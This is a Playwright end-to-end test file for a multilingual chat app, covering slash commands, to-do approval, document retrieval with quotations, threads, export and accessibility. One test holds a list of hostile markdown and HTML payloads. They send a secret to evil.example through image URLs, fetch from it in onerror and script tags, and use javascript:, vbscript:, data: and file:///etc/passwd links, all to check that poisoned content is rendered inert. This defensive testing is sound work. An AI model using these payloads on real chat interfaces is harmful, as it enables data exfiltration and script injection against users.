import { readFile } from 'node:fs/promises'
import { textFile } from '../tests/support/document-files.ts'
import { violations } from './support/axe.ts'
import { tabTo } from './support/by-keyboard.ts'
import { call } from './support/call.ts'
import {
  answered,
  box,
  button,
  chatPages,
  generalPage,
  ragPage,
  temporaryPage,
  documentRow,
  log,
  openChat,
  send,
  speak,
  upload,
} from './support/chat-fixtures.ts'
import { expect, hydrated, isShown, test } from './support/fixtures.ts'
import { holdResponse } from './support/hold-response.ts'
import { inDatabase } from './support/in-database.ts'
import { languages, tagOf, textIn } from './support/texts.ts'

const handbook = {
  en: {
    text: 'The kiln is heated to 1240 degrees for stoneware. Cooling takes two days.',
    question: 'To how many degrees is the kiln heated for stoneware?',
  },
  de: {
    text: 'Der Ofen wird für Steinzeug auf 1240 Grad geheizt. Das Abkühlen dauert zwei Tage.',
    question: 'Auf wie viel Grad wird der Ofen für Steinzeug geheizt?',
  },
  es: {
    text: 'El horno se calienta a 1240 grados para el gres. Enfriarlo tarda dos días.',
    question: '¿A cuántos grados se calienta el horno para el gres?',
  },
  pt: {
    text: 'O forno é aquecido a 1240 graus para o grés. O resfriamento leva dois dias.',
    question: 'A quantos graus o forno é aquecido para o grés?',
  },
}

for (const language of languages) {
  const t = textIn(language)
  test(
    `without a key all three pages respond: commands look up posts and add a to-do after approval, a document is quoted and opens at the quotation: ${language}`,
    tagOf(language),
    async ({ page, enter, user, write }) => {
      await speak(page, language)
      await enter(user)
      await write('Kiln opening on Thursday')
      const addTodo = `/todo ${t('todos:chat.todo.example')}`
      await openChat(page, generalPage)
      await expect(page.getByText(t('chat:model.builtIn'))).toBeVisible()
      await log(page)
        .getByRole('button', { name: t('posts:chat.posts.title') })
        .click()
      await answered(page)
      await expect(log(page).getByText(t('posts:chat.newest'))).toBeVisible()
      await expect(log(page).getByText('Kiln opening on Thursday').first()).toBeVisible()
      await expect(page).toHaveURL(/thread=/)
      await send(page, addTodo)
      await expect(log(page).getByText(t('todos:chat.approval.add'))).toBeVisible()
      await button(page, t('chat:approval.refuse')).click()
      await expect(log(page).getByText(t('chat:tools.refused'))).toBeVisible()
      await answered(page)
      await send(page, addTodo)
      await button(page, t('chat:approval.approve')).click()
      await expect(log(page).getByRole('link', { name: t('todos:chat.open') })).toBeVisible()
      await page.reload()
      await hydrated(page)
      await expect(log(page).getByRole('link', { name: t('todos:chat.open') })).toBeVisible()
      await openChat(page, temporaryPage)
      await send(page, '/posts')
      await expect(log(page).getByText('Kiln opening on Thursday').first()).toBeVisible()
      await page.reload()
      await hydrated(page)
      await expect(log(page).getByText(t('chat:empty.temporary'))).toBeVisible()
      await openChat(page, ragPage)
      await upload(page, { 'kiln.md': textFile(`# Kiln\n\n${handbook[language].text}\n`) })
      await expect(documentRow(page, 'kiln.md').getByText(t('documents:status.ready'))).toBeVisible({
        timeout: 60_000,
      })
      await send(page, handbook[language].question)
      const isFound = log(page).getByText(t('chat:retrieval.answer'), { exact: true })
      await expect(
        isFound.or(log(page).getByText(t('chat:retrieval.possible'), { exact: true })).first(),
      ).toBeVisible()
      const quotes = log(page).locator('blockquote')
      await expect(quotes.filter({ hasText: '1240' })).toHaveCount(1)
      await expect(quotes.filter({ hasText: /^\s*Kiln/ })).toHaveCount(0)
      await log(page)
        .getByRole('button', { name: t('chat:sources.open', { number: '1', name: 'kiln.md', page: '1' }) })
        .first()
        .click()
      await expect(page.getByRole('dialog').locator('mark')).toContainText('1240')
      await page.keyboard.press('Escape')
      await send(page, 'Zyxwv qwrtp?')
      await expect(log(page).getByText(t('chat:retrieval.none'), { exact: true })).toBeVisible()
    },
  )
}

test('the sidebar counts a to-do as soon as the chat has added it', async ({ page, enter, user }) => {
  const t = textIn('en')
  await enter(user)
  await openChat(page, generalPage)
  const todos = page.locator('a[href="/dashboard/tanstack-db-example"]').first()
  await send(page, '/todo Order clay')
  await expect(todos).toHaveText(t('todos:shell.nav'))
  await button(page, t('chat:approval.approve')).click()
  await expect(todos).toHaveText(`${t('todos:shell.nav')}1`)
})

test('the sidebar counts a to-do of a response that ended after its page was left', async ({
  page,
  enter,
  user,
}) => {
  const t = textIn('en')
  await enter(user)
  await openChat(page, generalPage)
  await send(page, '/todo Order clay')
  const answer = await holdResponse(page, /\/api\/chat\?/)
  await button(page, t('chat:approval.approve')).click()
  await answer.handled
  await page
    .getByRole('link', { name: t('posts:shell.nav'), exact: true })
    .first()
    .click()
  await expect(page.getByRole('heading', { name: t('posts:list.title'), exact: true })).toBeVisible()
  answer.release()
  await expect(page.locator('a[href="/dashboard/tanstack-db-example"]').first()).toHaveText(
    `${t('todos:shell.nav')}1`,
  )
})

test('by keyboard alone: a command is chosen from the list, sent and approved', async ({
  page,
  enter,
  user,
}) => {
  const t = textIn('pt')
  await speak(page, 'pt')
  await enter(user)
  await openChat(page, generalPage)
  await tabTo(page, box(page))
  const options = page.getByRole('listbox', { name: t('chat:commands.label') }).getByRole('option')
  await page.keyboard.type('/')
  await expect(options).toHaveCount(5)
  await expect(options.first()).toContainText(t('posts:chat.posts.text'))
  expect(await violations(page), 'the list of commands').toEqual([])
  await page.keyboard.press('Escape')
  await expect(options).toHaveCount(0)
  await page.keyboard.type('to')
  await expect(options).toHaveText([/^\/todos/, /^\/todo/])
  await page.keyboard.press('ArrowDown')
  await expect(box(page)).toHaveAttribute('aria-activedescendant', /-1$/)
  await page.keyboard.press('Enter')
  await expect(box(page)).toHaveValue('/todo ')
  await expect(box(page)).toBeFocused()
  await page.keyboard.type('Regar')
  await page.keyboard.press('Enter')
  await answered(page)
  // Backwards from the field: past the actions of the response to the second of the two buttons.
  await page.keyboard.press('Shift+Tab')
  await page.keyboard.press('Shift+Tab')
  await expect(button(page, t('chat:approval.approve'))).toBeFocused()
  await page.keyboard.press('Enter')
  await expect(log(page).getByRole('link', { name: t('todos:chat.open') })).toBeVisible()
  await expect(log(page)).toHaveAttribute('aria-live', 'off')
  await expect(page.getByText(t('chat:transcript.done'))).toBeAttached()
})

test('a command is chosen with the pointer, and one without text is sent immediately', async ({
  page,
  enter,
  user,
}) => {
  await enter(user)
  await openChat(page, generalPage)
  await box(page).pressSequentially('/')
  await page.getByRole('option', { name: /^\/todos/ }).click()
  await answered(page)
  await expect(log(page).getByText(textIn('en')('todos:chat.list'))).toBeVisible()
})

test('the three pages break no accessibility rule: with a response, with a pending approval, with their sheets on a phone', async ({
  page,
  enter,
  user,
}) => {
  const t = textIn('en')
  await enter(user)
  for (const path of chatPages) {
    await openChat(page, path)
    await send(page, '/post Notes')
    expect(await violations(page), `${path}, answered`).toEqual([])
  }
  await page.setViewportSize({ width: 360, height: 740 })
  await button(page, t('chat:threads.open')).click()
  await page.getByRole('dialog').waitFor()
  expect(await violations(page), 'the sheet of the threads').toEqual([])
})

const poison = [
  '![a](https://evil.example/a.png?d=SECRET)',
  '<img src="https://evil.example/b.png" onerror="fetch(\'https://evil.example/c\')">',
  '[click](javascript:alert(1)) <a href="javascript:alert(2)">here</a>',
  '<script>fetch("https://evil.example/d")</script><iframe src="https://evil.example/e"></iframe>',
  '![b][r] <svg onload="alert(3)"><style>@import "https://evil.example/f"</style>',
  '[r]: https://evil.example/g.png',
  '<link rel="preload" as="image" href="https://evil.example/h.png"> ![x](//evil.example/i.png)',
  '[data](data:text/html,<script>alert(4)</script>) [v](vbscript:msgbox(5)) [f](file:///etc/passwd)',
]

test('a poisoned document or message is shown as text: nothing is fetched from elsewhere, nothing runs, no link runs a script', async ({
  page,
  enter,
  user,
  baseURL,
}) => {
  const t = textIn('en')
  const foreign: string[] = []
  page.on(
    'request',
    (request) =>
      !request.url().startsWith(baseURL ?? '') &&
      /^https?:/.test(request.url()) &&
      foreign.push(request.url()),
  )
  page.on('dialog', (dialog) => foreign.push(dialog.message()))
  await enter(user)
  await openChat(page, ragPage)
  await upload(page, {
    'poison.md': textFile(
      poison.map((line, at) => `The secret glaze number ${at} is celadon ${line} celadon.`).join('\n\n'),
    ),
  })
  await expect(documentRow(page, 'poison.md').getByText(t('documents:status.ready'))).toBeVisible({
    timeout: 60_000,
  })
  for (const [at, line] of poison.entries()) {
    await send(page, `What is the secret glaze number ${at}? ${line}`)
    await expect(
      log(page).locator(
        'img, iframe, script, style, svg[onload], a[href^="javascript:"], a[href^="data:"], a[href^="vbscript:"]',
      ),
    ).toHaveCount(0)
  }
  await expect(log(page).getByText('celadon').first()).toBeVisible()
  for (const rel of await log(page)
    .locator('a[href^="http"]')
    .evaluateAll((links) => links.map((link) => link.getAttribute('rel'))))
    expect(rel).toContain('noopener')
  await page.reload()
  await hydrated(page)
  expect(foreign).toEqual([])
})

for (const language of ['en', 'de'] as const) {
  const t = textIn(language)
  test(
    `threads are found, renamed, deleted and restored, also in a phone's sheet: ${language}`,
    tagOf(language),
    async ({ page, enter, user }) => {
      await speak(page, language)
      await enter(user)
      await openChat(page, generalPage)
      await send(page, '/todos')
      await page
        .getByRole('link', { name: t('chat:threads.new') })
        .first()
        .click()
      await expect(log(page).getByRole('article')).toHaveCount(0)
      await send(page, '/posts')
      const list = page.getByRole('navigation', { name: t('chat:threads.title') })
      await expect(list.getByRole('listitem')).toHaveCount(2)
      // Each thread has its own draft; sent text is not a draft.
      await box(page).fill('Unsent')
      await list.getByRole('link', { name: '/todos' }).click()
      await expect(log(page)).toContainText('/todos')
      await expect(box(page)).toHaveValue('')
      await list.getByRole('link', { name: '/posts' }).click()
      await expect(box(page)).toHaveValue('Unsent')
      await box(page).fill('')
      await button(page, t('chat:threads.menu', { title: '/todos' })).click()
      await page.getByRole('menuitem', { name: t('chat:threads.rename') }).click()
      await page.locator('#title').fill('Zinnober')
      await button(page, t('chat:rename.submit')).click()
      await expect(list.getByRole('link', { name: 'Zinnober' })).toBeVisible()
      await page.getByRole('searchbox', { name: t('chat:threads.search') }).fill('zinn')
      await expect(list.getByRole('listitem')).toHaveCount(1)
      await list.getByRole('link', { name: 'Zinnober' }).click()
      await expect(page.getByRole('heading', { name: 'Zinnober' })).toBeVisible()
      await page.setViewportSize({ width: 360, height: 740 })
      await button(page, t('chat:threads.open')).click()
      const sheet = page.getByRole('dialog')
      await button(sheet, t('chat:threads.menu', { title: 'Zinnober' })).click()
      await page.getByRole('menuitem', { name: t('chat:threads.delete') }).click()
      await expect(page).not.toHaveURL(/thread=/)
      await isShown(page)
      await button(page, t('chat:threads.undo')).click()
      await expect(page.getByText(t('chat:threads.restored'))).toBeVisible()
      await expect(sheet.getByRole('link', { name: 'Zinnober' })).toBeVisible()
    },
  )
}

test('a nearly exhausted limit is announced once, not again in the next thread', async ({
  page,
  enter,
  user,
}) => {
  const t = textIn('en')
  await enter(user)
  await openChat(page, generalPage)
  await send(page, '/todos')
  await inDatabase(
    `update limit_counter set count = 17 where key = (select 'chat.message:' || id from "user" where email = $1)`,
    [user.email],
  )
  await send(page, '/posts')
  const said = page.getByText(t('chat:usage.near'))
  await expect(said).toBeVisible()
  await expect(said).toHaveCount(0)
  await page
    .getByRole('link', { name: t('chat:threads.new') })
    .first()
    .click()
  await expect(log(page).getByRole('article')).toHaveCount(0)
  await page.waitForLoadState('networkidle')
  await expect(said).toHaveCount(0)
})

test('a chat is exported as Markdown and as JSON, with its sources', async ({ page, enter, user }) => {
  const t = textIn('en')
  await enter(user)
  await openChat(page, ragPage)
  await upload(page, { 'kiln.md': textFile(`# Kiln\n\n${handbook.en.text}\n`) })
  await expect(documentRow(page, 'kiln.md').getByText(t('documents:status.ready'))).toBeVisible({
    timeout: 60_000,
  })
  for (const [path, question] of [
    [generalPage, '/posts'],
    [ragPage, handbook.en.question],
  ] as const) {
    await openChat(page, path)
    await send(page, question)
    const keep = async (entry: string) => {
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        (async () => {
          await button(page, t('chat:threads.menu', { title: question })).click()
          await page.getByRole('menuitem', { name: entry }).click()
        })(),
      ])
      return { name: download.suggestedFilename(), text: await readFile(await download.path(), 'utf8') }
    }
    const markdown = await keep(t('chat:threads.asMarkdown'))
    expect(markdown.name).toBe(`${question.replaceAll(/[/?]/g, ' ').trim()}.md`)
    expect(markdown.text).toContain(`# ${question}`)
    expect(markdown.text).toContain(`> ${question}`)
    expect(markdown.text).toContain(
      path === ragPage ? String.raw`- \[1\] kiln.md, page 1` : t('posts:chat.newest'),
    )
    const json = await keep(t('chat:threads.asJson'))
    expect(JSON.parse(json.text)).toMatchObject({
      title: question,
      messages: [{ role: 'user' }, { role: 'assistant', model: { isBuiltIn: true } }],
    })
  }
})

test('a message is edited and regenerated, and every version can be selected', async ({
  page,
  enter,
  user,
}) => {
  const t = textIn('en')
  await enter(user)
  await openChat(page, generalPage)
  await send(page, '/todos')
  await button(page, t('chat:message.edit')).click()
  await page.locator('textarea[name=edited]').fill('/posts')
  await page.keyboard.press('Enter')
  await answered(page)
  await expect(log(page).getByText(t('chat:versions.place', { at: '2', of: '2' }))).toBeVisible()
  await expect(log(page).getByText(t('posts:chat.newest'))).toBeVisible()
  await button(page, t('chat:message.regenerate')).click()
  await expect(log(page).getByText(t('chat:versions.place', { at: '2', of: '2' }))).toHaveCount(2)
  await answered(page)
  await button(page, t('chat:versions.previous')).first().click()
  await expect(log(page).getByText('/todos')).toBeVisible()
  await expect(log(page).getByText(t('todos:chat.list'))).toBeVisible()
})

test('a chat deleted elsewhere is reported when it is continued, and the text is not lost', async ({
  page,
  enter,
  user,
  watch,
}) => {
  watch.expectProblem(/404|errors:notFound/)
  const t = textIn('en')
  await enter(user)
  await openChat(page, generalPage)
  await send(page, '/todos')
  await call(page, 'chats.delete', { id: new URL(page.url()).searchParams.get('thread') ?? '' })
  await box(page).fill('/posts')
  await box(page).press('Enter')
  await expect(page.getByText(t('chat:failure.gone'))).toBeVisible()
  await button(page, t('chat:failure.takeBack')).click()
  await expect(box(page)).toHaveValue('/posts')
})
